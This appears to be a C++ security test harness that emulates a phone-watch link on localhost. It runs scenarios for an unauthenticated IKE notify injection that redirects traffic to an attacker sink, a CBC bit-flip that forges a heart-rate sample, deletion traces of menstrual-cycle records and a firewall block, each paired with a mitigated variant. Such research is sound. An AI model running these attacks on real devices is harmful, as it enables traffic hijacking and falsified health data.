#include "witchstack/harness/scenario.hpp"

#include <algorithm>
#include <functional>
#include <json.hpp>
#include <map>
#include <random>
#include <sstream>
#include <thread>

#include "witchstack/alloy/message.hpp"
#include "witchstack/common/error.hpp"
#include "witchstack/harness/attacker.hpp"
#include "witchstack/harness/mux.hpp"
#include "witchstack/harness/phone.hpp"
#include "witchstack/harness/tap.hpp"
#include "witchstack/harness/watch.hpp"
#include "witchstack/ike/ldm.hpp"

namespace witchstack::harness {

using ike::ProtectionClass;
using namespace std::chrono_literals;
namespace ns = witchstack::nanosync;

namespace {

constexpr double kForgedHeartRate = 190.0;
constexpr double kEnergyValue = 312.5;
constexpr std::uint8_t kCycleSampleType = 0x5f;

class Checks {
 public:
  explicit Checks(ScenarioReport& r) : r_(r) {}
  bool check(const std::string& name, bool ok, const std::string& detail = "") {
    r_.checks.push_back({name, ok, detail});
    return ok;
  }

 private:
  ScenarioReport& r_;
};

template <typename Pred>
bool eventually(Pred p, std::chrono::milliseconds timeout) {
  auto deadline = std::chrono::steady_clock::now() + timeout;
  while (!p()) {
    if (std::chrono::steady_clock::now() > deadline) return false;
    std::this_thread::sleep_for(5ms);
  }
  return true;
}

// Phone, optional attacker between the two, and watch.
struct Rig {
  std::shared_ptr<link::TranscriptWriter> transcript = std::make_shared<link::TranscriptWriter>();
  std::shared_ptr<alloy::AlloyTranscript> alloy_log = std::make_shared<alloy::AlloyTranscript>();
  std::shared_ptr<KeyLog> keylog = std::make_shared<KeyLog>();
  std::unique_ptr<PhoneEndpoint> phone;
  std::unique_ptr<LinkAttacker> attacker;
  std::unique_ptr<WatchEmulator> watch;

  Rig(bool with_attacker, const std::function<void(PhoneOptions&, WatchOptions&)>& tweak) {
    auto [w, p] = provision();
    PhoneOptions po;
    WatchOptions wo;
    po.transcript = transcript;
    po.alloy_transcript = alloy_log;
    po.engine.keylog = keylog;
    po.engine.run_keepalive = wo.engine.run_keepalive = false;
    wo.reply_timeout = 1s;
    if (tweak) tweak(po, wo);
    phone = std::make_unique<PhoneEndpoint>(std::move(p), po);
    phone->start();
    wo.port = phone->port();
    if (with_attacker) {
      attacker = std::make_unique<LinkAttacker>("127.0.0.1", phone->port());
      attacker->start();
      wo.port = attacker->port();
    }
    watch = std::make_unique<WatchEmulator>(std::move(w), wo);
    watch->connect();
    phone->wait_channels(3, 2s);
  }

  void finish(ScenarioReport& r) {
    watch->disconnect();
    phone->stop();
    if (attacker) attacker->stop();
    r.events = phone->log()->snapshot();
    r.link_transcript = transcript->snapshot();
    r.alloy_lines = alloy_log->lines();
    for (const auto& e : keylog->entries()) r.keylog_lines.push_back(format_keylog_line(e));
  }
};

Uuid random_uuid(std::mt19937_64& rng) {
  Uuid u;
  for (auto& b : u) b = static_cast<std::uint8_t>(rng());
  return u;
}

ns::HealthSample make_sample(std::mt19937_64& rng, std::uint8_t type, ns::Unit unit, double value,
                             std::uint64_t start_ms) {
  ns::HealthSample s;
  s.uuid = random_uuid(rng);
  s.sample_type = type;
  s.unit = unit;
  s.value = value;
  s.start_ms = start_ms;
  s.end_ms = start_ms + 60000;
  s.source = "Watch";
  return s;
}

// ---- LDM injection ----

ScenarioReport ldm_inject(const std::string& name, bool strict, const ScenarioOptions& opt) {
  ScenarioReport r;
  r.name = name;
  Checks c(r);
  bool effective_strict = opt.strict_notify.value_or(strict);
  Rig rig(true, [&](PhoneOptions& po, WatchOptions&) {
    po.engine.strict_notify = effective_strict;
    po.engine.wifi_routing = true;
  });
  auto sink = ike::WifiAddress::v4(127, 0, 0, 1, rig.attacker->sink_port());
  auto engine = rig.phone->engine();
  if (!c.check("link up", engine && engine->established(ProtectionClass::D))) {
    rig.finish(r);
    return r;
  }
  Bytes hash_c = engine->state_hash(ProtectionClass::C);
  Bytes hash_d = engine->state_hash(ProtectionClass::D);
  auto unauth_before = rig.phone->log()->count(SecurityEventKind::UnauthenticatedNotify);
  auto feed_mark = rig.phone->feed().last_id();

  std::atomic<bool> injected{false};
  rig.attacker->set_hook([&](link::Direction dir, const link::NrlpFrame& f)
                             -> std::optional<std::vector<link::NrlpFrame>> {
    if (dir != link::Direction::ToPhone || injected || f.type != static_cast<std::uint8_t>(link::NrlpType::IkeV2))
      return std::nullopt;
    ike::IkeHeader h;
    try {
      h = ike::parse_ike_header(f.payload);
    } catch (const Error&) {
      return std::nullopt;
    }
    if (h.exchange != static_cast<std::uint8_t>(ike::ExchangeType::Informational) ||
        (h.flags & ike::kFlagResponse))
      return std::nullopt;
    ike::IkeMessage forged;
    forged.spi_i = h.spi_i;
    forged.spi_r = h.spi_r;
    forged.exchange_type = ike::ExchangeType::Informational;
    forged.from_initiator = true;
    forged.msg_id = h.msg_id;
    forged.is_encrypted = false;
    ike::LinkDirectorMessage ldm;
    ldm.tlvs.push_back(ike::address_tlv(sink));
    forged.payloads.push_back(ike::make_notify(ike::notify::kLinkDirectorMessage, ike::ldm_encode(ldm)));
    injected = true;
    return std::vector<link::NrlpFrame>{
        link::make_nrlp_frame(static_cast<std::uint8_t>(link::NrlpType::IkeV2), ike::ike_encode(forged))};
  });

  rig.watch->engine().keepalive_now(ProtectionClass::D);
  c.check("heartbeat replaced by forged notify", eventually([&] { return injected.load(); }, 2s));

  auto redirected = [&] {
    auto st = engine->notify_state(ProtectionClass::D);
    return st && st->peer_wifi == sink;
  };
  if (!strict) {
    c.check("peer address points at attacker sink", eventually(redirected, 2s),
            engine->notify_state(ProtectionClass::D) && engine->notify_state(ProtectionClass::D)->peer_wifi
                ? engine->notify_state(ProtectionClass::D)->peer_wifi->to_string()
                : "unset");
    bool effect = false;
    for (const auto& e : rig.phone->feed().since(feed_mark))
      effect |= e.type == "tunnel" && e.data.find("PeerAddressUpdated") != std::string::npos;
    c.check("PeerAddressUpdated effect", effect);
    engine->keepalive_now(ProtectionClass::D);
    bool arrived = eventually([&] { return rig.attacker->sink_datagrams() > 0; }, 2s);
    bool is_ike = false;
    for (const auto& d : rig.attacker->sink_payloads()) {
      try {
        is_ike |= link::nrlp_decode(d).frame.type == static_cast<std::uint8_t>(link::NrlpType::IkeV2);
      } catch (const Error&) {
      }
    }
    c.check("subsequent traffic reaches attacker sink", arrived && is_ike,
            std::to_string(rig.attacker->sink_datagrams()) + " datagram(s)");
  } else {
    bool logged = eventually(
        [&] { return rig.phone->log()->count(SecurityEventKind::UnauthenticatedNotify) > unauth_before; }, 2s);
    std::this_thread::sleep_for(50ms);
    auto n = rig.phone->log()->count(SecurityEventKind::UnauthenticatedNotify) - unauth_before;
    c.check("exactly one UnauthenticatedNotify", logged && n == 1, std::to_string(n) + " logged");
    c.check("state hash unchanged",
            engine->state_hash(ProtectionClass::C) == hash_c && engine->state_hash(ProtectionClass::D) == hash_d);
    c.check("peer address unchanged", !redirected());
    engine->keepalive_now(ProtectionClass::D);
    std::this_thread::sleep_for(150ms);
    c.check("no traffic at attacker sink", rig.attacker->sink_datagrams() == 0,
            std::to_string(rig.attacker->sink_datagrams()) + " datagram(s)");
  }
  rig.finish(r);
  return r;
}

// ---- CBC forgery ----

Bytes forge_mask(double original, double forged) {
  ByteWriter a, b;
  a.f64(original);
  b.f64(forged);
  Bytes mask(aoverc::kBlockSize, 0);
  mask[0] = ns::sample_type::kActiveEnergy ^ ns::sample_type::kHeartRate;
  mask[1] = static_cast<std::uint8_t>(ns::Unit::Kilocalorie) ^ static_cast<std::uint8_t>(ns::Unit::CountPerMinute);
  for (std::size_t i = 0; i < 8; ++i) mask[2 + i] = a.bytes()[i] ^ b.bytes()[i];
  return mask;
}

// Ciphertext block holding the UUID of the first insert; flipping it edits
// the plaintext block that follows.
std::size_t uuid_block(const ns::HealthSample& s) {
  ns::HealthStore scratch;
  scratch.insert({s});
  auto offsets = ns::insert_offsets(scratch.produce_changes({}));
  return offsets.at(0) / aoverc::kBlockSize;
}

ScenarioReport cbc_forge(const std::string& name, aoverc::Mode mode, const ScenarioOptions& opt) {
  ScenarioReport r;
  r.name = name;
  Checks c(r);
  aoverc::Mode effective = opt.health_mode.value_or(mode);
  std::mt19937_64 rng(opt.seed);
  Rig rig(true, [&](PhoneOptions& po, WatchOptions& wo) {
    po.health_mode = wo.health_mode = effective;
    wo.reply_timeout = 400ms;
  });
  auto energy = make_sample(rng, ns::sample_type::kActiveEnergy, ns::Unit::Kilocalorie, kEnergyValue,
                            1700000000000ull);
  std::size_t block = uuid_block(energy);
  Bytes mask = forge_mask(kEnergyValue, kForgedHeartRate);
  auto keylog = rig.keylog;

  std::atomic<bool> tampered{false};
  rig.attacker->set_hook([&](link::Direction dir, const link::NrlpFrame& f)
                             -> std::optional<std::vector<link::NrlpFrame>> {
    if (dir != link::Direction::ToPhone || tampered || f.type != esp_frame_type(ProtectionClass::C))
      return std::nullopt;
    auto key = keylog->latest(ProtectionClass::C);
    if (!key || f.payload.size() < ike::kEspSeqSize) return std::nullopt;
    auto inner = ike::esp_decrypt(key->suite, key->keys.esp_i2r, f.payload);
    if (!inner) return std::nullopt;
    try {
      Segment seg = decode_segment(*inner);
      if (seg.kind != SegmentKind::Data) return std::nullopt;
      auto m = alloy::alloy_decode(seg.payload);
      if (!m.topic || *m.topic != kHealthTopic) return std::nullopt;
      auto env = aoverc::decode_record(m.payload);
      Bytes forged = aoverc::encode_record(aoverc::forge_sample_type(env, block, mask));
      auto at = std::search(seg.payload.begin(), seg.payload.end(), m.payload.begin(), m.payload.end());
      if (at == seg.payload.end() || forged.size() != m.payload.size()) return std::nullopt;
      std::copy(forged.begin(), forged.end(), at);
      ike::TunnelSession ts;
      ts.protection_class = ProtectionClass::C;
      ts.cipher_suite = key->suite;
      ts.send = key->keys.esp_i2r;
      ByteReader seq(f.payload);
      ts.send_seq = seq.u64();
      tampered = true;
      return std::vector<link::NrlpFrame>{
          link::make_nrlp_frame(f.type, ike::tunnel_seal(ts, encode_segment(seg)))};
    } catch (const Error&) {
      return std::nullopt;
    }
  });

  rig.watch->store()->insert({energy});
  bool synced = rig.watch->sync_health();
  c.check("envelope tampered in flight", tampered.load(), "block " + std::to_string(block));

  ns::QueryFilter hr;
  hr.sample_type = ns::sample_type::kHeartRate;
  auto forged = rig.phone->store()->query(hr);
  bool landed = false;
  for (const auto& s : forged)
    landed |= s.value == kForgedHeartRate && s.unit == ns::Unit::CountPerMinute;
  if (landed)
    rig.phone->log()->record(SecurityEventKind::ForgedSampleAccepted,
                             "heart rate " + std::to_string(kForgedHeartRate) + " from tampered energy sample");
  auto tamper_events = rig.phone->log()->count(SecurityEventKind::TamperDetected);
  if (mode == aoverc::Mode::Faithful) {
    c.check("forged heart-rate sample in phone store", landed, std::to_string(forged.size()) + " HR row(s)");
    c.check("receiver saw no tamper", tamper_events == 0);
  } else {
    c.check("tamper detected", tamper_events >= 1, std::to_string(tamper_events) + " event(s)");
    c.check("no forged sample in phone store", forged.empty(), std::to_string(forged.size()) + " HR row(s)");
    auto live = rig.phone->store()->live_samples();
    c.check("genuine sample delivered on retry", synced && live.size() == 1 && live[0] == energy);
  }
  rig.finish(r);
  return r;
}

// ---- deletion artifacts ----

ScenarioReport deletion_artifacts(const ScenarioOptions& opt) {
  ScenarioReport r;
  r.name = "deletion-artifacts";
  Checks c(r);
  ns::register_sample_type(kCycleSampleType, "MenstrualFlow");
  std::mt19937_64 rng(opt.seed);
  Rig rig(false, {});
  std::vector<ns::HealthSample> cycle;
  for (int i = 0; i < 6; ++i)
    cycle.push_back(make_sample(rng, kCycleSampleType, ns::Unit::Count, 1.0 + i % 3,
                                1700000000000ull + 86400000ull * i));
  rig.watch->store()->insert(cycle);
  c.check("initial sync", rig.watch->sync_health());
  std::vector<Uuid> removed{cycle[0].uuid, cycle[1].uuid, cycle[2].uuid};
  rig.watch->store()->remove(removed);
  c.check("delete sync", rig.watch->sync_health());

  ns::QueryFilter all;
  all.include_tombstones = true;
  auto rows = rig.phone->store()->query(all);
  bool contents_ok = true;
  std::size_t tombstones = 0;
  for (const auto& s : rows) {
    if (!s.deleted) continue;
    ++tombstones;
    bool listed = std::find(removed.begin(), removed.end(), s.uuid) != removed.end();
    contents_ok &= listed && s.sample_type == kCycleSampleType && s.deletion_ms.has_value() &&
                   !s.value && !s.unit && !s.start_ms && !s.end_ms && !s.source && !s.provenance;
  }
  c.check("tombstones keep type and deletion time only", contents_ok && tombstones == removed.size(),
          std::to_string(tombstones) + " tombstone(s)");

  rig.watch->store()->hardened_delete(removed[0]);
  rig.watch->store()->hardened_delete(cycle[5].uuid);
  c.check("purge sync", rig.watch->sync_health());
  auto after = rig.phone->store()->query(all);
  auto present = [&](const Uuid& u) {
    return std::any_of(after.begin(), after.end(), [&](const ns::StoredSample& s) { return s.uuid == u; });
  };
  c.check("hardened delete leaves no trace on phone", !present(removed[0]) && !present(cycle[5].uuid));
  c.check("other tombstones remain", present(removed[1]) && present(removed[2]));
  c.check("anchors equal", rig.phone->store()->anchors() == rig.watch->store()->anchors());
  rig.finish(r);
  return r;
}

// ---- end to end ----

ScenarioReport end_to_end(const ScenarioOptions& opt) {
  ScenarioReport r;
  r.name = "end-to-end";
  Checks c(r);
  std::mt19937_64 rng(opt.seed);
  EchoTap tap;
  Rig rig(false, {});
  std::vector<ns::HealthSample> samples;
  for (std::size_t i = 0; i < opt.samples; ++i)
    samples.push_back(make_sample(rng, ns::sample_type::kHeartRate, ns::Unit::CountPerMinute,
                                  static_cast<double>(50 + rng() % 120), 1700000000000ull + 5000ull * i));
  for (std::size_t i = 0; i < samples.size(); i += 10)
    rig.watch->store()->insert({samples.begin() + static_cast<std::ptrdiff_t>(i),
                                samples.begin() + static_cast<std::ptrdiff_t>(std::min(i + 10, samples.size()))});
  bool synced = rig.watch->sync_health();
  auto live = rig.phone->store()->live_samples();
  std::sort(live.begin(), live.end(), [](auto& a, auto& b) { return a.start_ms < b.start_ms; });
  c.check("health sync completes", synced, std::to_string(rig.watch->health().rounds()) + " round(s)");
  c.check("phone store holds every sample", live == samples,
          std::to_string(live.size()) + "/" + std::to_string(samples.size()));
  c.check("anchors equal", rig.phone->store()->anchors() == rig.watch->store()->anchors());

  Bytes upload(32768);
  for (auto& b : upload) b = static_cast<std::uint8_t>(rng());
  shoes::ShoesRequest req;
  req.port = tap.port();
  req.destination = shoes::Hostname{"127.0.0.1"};
  req.process_name = "nsurlsessiond";
  auto ok = rig.watch->shoes_fetch(req, upload);
  c.check("allowed transfer echoed", ok.reply.domain == shoes::domain::kSuccess && ok.received == upload,
          std::to_string(ok.received.size()) + " byte(s)");

  rig.phone->firewall().set(shoes::HostMatch{"localhost"}, shoes::Action::Block);
  rig.phone->firewall_changed();
  auto before = tap.bytes_received();
  req.destination = shoes::Hostname{"localhost"};
  auto denied = rig.watch->shoes_fetch(req, upload);
  c.check("blocked transfer denied by firewall",
          denied.reply.domain == shoes::domain::kProxy && denied.reply.code == shoes::code::kFirewall);
  std::this_thread::sleep_for(50ms);
  c.check("blocked transfer delivers nothing", tap.bytes_received() == before && denied.received.empty(),
          std::to_string(tap.bytes_received() - before) + " byte(s) at tap");
  rig.finish(r);
  return r;
}

using Runner = std::function<ScenarioReport(const ScenarioOptions&)>;

const std::vector<std::pair<std::string, Runner>>& registry() {
  static const std::vector<std::pair<std::string, Runner>> r = {
      {"ldm-inject-vulnerable", [](const ScenarioOptions& o) { return ldm_inject("ldm-inject-vulnerable", false, o); }},
      {"ldm-inject-strict", [](const ScenarioOptions& o) { return ldm_inject("ldm-inject-strict", true, o); }},
      {"cbc-forge-faithful",
       [](const ScenarioOptions& o) { return cbc_forge("cbc-forge-faithful", aoverc::Mode::Faithful, o); }},
      {"cbc-forge-mitigated",
       [](const ScenarioOptions& o) { return cbc_forge("cbc-forge-mitigated", aoverc::Mode::AeadMitigated, o); }},
      {"deletion-artifacts", deletion_artifacts},
      {"end-to-end", end_to_end},
  };
  return r;
}

}  // namespace

std::vector<std::string> scenario_names() {
  std::vector<std::string> out;
  for (auto& [n, f] : registry()) out.push_back(n);
  return out;
}

ScenarioReport run_scenario(const std::string& name, const ScenarioOptions& opt) {
  for (auto& [n, f] : registry()) {
    if (n != name) continue;
    auto t0 = std::chrono::steady_clock::now();
    ScenarioReport r;
    try {
      r = f(opt);
    } catch (const Error& e) {
      r.name = name;
      r.checks.push_back({"scenario ran", false, e.what()});
    }
    r.elapsed = std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - t0);
    r.passed = !r.checks.empty() &&
               std::all_of(r.checks.begin(), r.checks.end(), [](const ScenarioCheck& c) { return c.passed; });
    return r;
  }
  throw Error(Errc::ScenarioUnknown, name);
}

std::string ScenarioReport::to_text() const {
  std::ostringstream out;
  out << name << ": " << (passed ? "PASS" : "FAIL") << " (" << elapsed.count() << " ms)\n";
  for (const auto& c : checks) {
    out << "  [" << (c.passed ? "ok" : "FAIL") << "] " << c.name;
    if (!c.detail.empty()) out << " - " << c.detail;
    out << '\n';
  }
  for (const auto& e : events) out << "  event " << security_event_name(e.kind) << ": " << e.detail << '\n';
  return out.str();
}

std::string ScenarioReport::to_json() const {
  nlohmann::json j{{"name", name}, {"passed", passed}, {"elapsed_ms", elapsed.count()}};
  j["checks"] = nlohmann::json::array();
  for (const auto& c : checks) j["checks"].push_back({{"name", c.name}, {"passed", c.passed}, {"detail", c.detail}});
  j["events"] = nlohmann::json::array();
  for (const auto& e : events)
    j["events"].push_back({{"kind", std::string(security_event_name(e.kind))}, {"detail", e.detail}});
  return j.dump(2);
}

}  // namespace witchstack::harness
